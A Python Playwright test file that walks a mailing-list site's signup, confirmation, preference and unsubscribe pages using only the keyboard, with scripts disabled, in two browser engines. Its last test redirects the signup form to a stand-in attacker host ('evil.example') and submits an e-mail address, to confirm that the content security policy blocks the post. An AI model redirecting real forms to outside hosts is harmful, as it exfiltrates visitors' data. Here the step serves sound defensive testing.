"""The whole trip by keyboard alone, without script, in two engines, under the production policy."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser

from tests.accept.another_engine import ENTER, PATIENCE, SPACE, TAB, webkit
from tests.accept.policed_site import PolicedSite, policed_site

MOST_TABS = 150


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PolicedSite]:
    """The real site and its service."""
    with policed_site(tmp_path_factory.mktemp("trip")) as found:
        yield found


@dataclass(frozen=True)
class Hands:
    """All that a person without a mouse has: an address line to type into, keys, and eyes.

    `look` answers a script that only reads; the pages themselves run none.
    """

    open: Callable[[str], object]
    press: Callable[[str], object]
    look: Callable[[str], object]

    def where(self) -> str:
        """Read the address line."""
        return str(self.look("return location.href;"))

    def seen(self) -> str:
        """Read the page."""
        return str(self.look("return document.body.innerText;"))

    def focused(self) -> str:
        """Say what has the focus: its words, or the name and value of an input."""
        return str(self.look(FOCUSED))


FOCUSED = """
const at = document.activeElement;
return at === document.body ? "" : at.name ? `${at.name}=${at.value}` : at.textContent.trim();
"""
NAMES = {TAB: "Tab", ENTER: "Enter", SPACE: "Space"}


@pytest.fixture(params=["chromium", "webkit"])
def hands(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Hands]:
    """A browser that runs no script."""
    if request.param == "webkit":
        with webkit(script=False) as window:
            yield Hands(window.open, window.press, window.run)
        return
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    yield Hands(
        page.goto,
        lambda key: page.keyboard.press(NAMES.get(key, key)),
        lambda script: page.evaluate(f"() => {{{script}}}"),
    )
    context.close()


def reach(hands: Hands, wanted: str) -> str:
    """Press Tab until the focus is on something with these words, and return what it says."""
    for _press in range(MOST_TABS):
        hands.press(TAB)
        with contextlib.suppress(Exception):  # the page is being exchanged: the next look sees the new one
            if wanted in (found := hands.focused()):
                return found
    raise AssertionError(f"{MOST_TABS} times Tab on {hands.where()} never reached {wanted!r}")


def follow(hands: Hands, wanted: str, to: str) -> None:
    """Reach a link or button and press it; be on the address that ends so, or say where we are instead."""
    reach(hands, wanted)
    hands.press(ENTER)
    wait_for(hands, lambda: to in hands.where(), f"an address with {to!r}")


def wait_for(hands: Hands, claim: Callable[[], bool], what: str) -> None:
    """Wait for a claim about what is seen."""
    end = time.monotonic() + PATIENCE
    while time.monotonic() < end:
        with contextlib.suppress(Exception):
            if claim():
                return
        time.sleep(0.05)
    raise AssertionError(f"never seen: {what}; on {hands.where()}:\n{hands.seen()}")


def open_newest_mail(hands: Hands, site: PolicedSite, subject: str) -> None:
    """Open a mail in the local outbox, as soon as it is the newest there."""

    def is_newest() -> bool:
        hands.open(f"{site.address}/outbox/")
        return subject in hands.seen().split(" UTC")[0]

    wait_for(hands, is_newest, f"a mail “{subject}”")
    follow(hands, subject, "/outbox/")
    wait_for(hands, lambda: "As plain text" in hands.seen(), "the mail")


def test_a_visitor_joins_chooses_and_leaves_with_tab_and_enter(hands: Hands, site: PolicedSite) -> None:
    """Home → join → outbox → confirm → preferences → unsubscribe: no mouse, no script, both engines."""
    someone = f"someone-{time.monotonic_ns()}@example.com"
    hands.open(f"{site.address}/")
    follow(hands, "Join the list", "/join/")
    follow(hands, "One blunt letter", "/join/everyone/")
    reach(hands, "email=")
    for sign in someone:
        hands.press(sign)
    hands.press(ENTER)
    wait_for(hands, lambda: "Check your inbox" in hands.seen(), "the page after the form")
    assert site.states(someone) == {"everyone": "pending"}

    follow(hands, "it’s in the outbox", "/outbox/")
    open_newest_mail(hands, site, "One more click")
    follow(hands, "/signup/confirm?token=", "/signup/confirm")
    assert site.states(someone) == {"everyone": "pending"}  # opening a link changes nothing
    follow(hands, "Put me on the list", "/join/everyone/welcome/")
    assert site.states(someone) == {"everyone": "confirmed"}

    open_newest_mail(hands, site, "You're in")
    follow(hands, "/signup/preferences?token=", "/signup/preferences")
    reach(hands, "list=candidates")
    hands.press(SPACE)
    reach(hands, "Save")
    hands.press(ENTER)
    wait_for(hands, lambda: "Saved." in hands.seen(), "that it is saved")
    assert site.states(someone) == {"everyone": "confirmed", "candidates": "confirmed"}

    open_newest_mail(hands, site, "You're in")
    follow(hands, "/signup/unsubscribe?token=", "/signup/unsubscribe")
    follow(hands, "everything=yes", "/join/goodbye/")
    assert set(site.states(someone).values()) == {"unsubscribed"}


def test_the_policy_is_really_there(browser: Browser, site: PolicedSite) -> None:
    """A form that sends elsewhere is blocked: the trip above was made under the policy."""
    page = browser.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(f"{site.address}/join/everyone/")
    page.evaluate("document.querySelector('main form').action = 'https://evil.example/'")
    page.get_by_label("Your e-mail").fill("a@example.com")
    page.evaluate("HTMLFormElement.prototype.submit.call(document.querySelector('main form'))")
    deadline = time.monotonic() + PATIENCE
    while "form-action" not in " ".join(said) and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert "form-action" in " ".join(said)
    page.close()
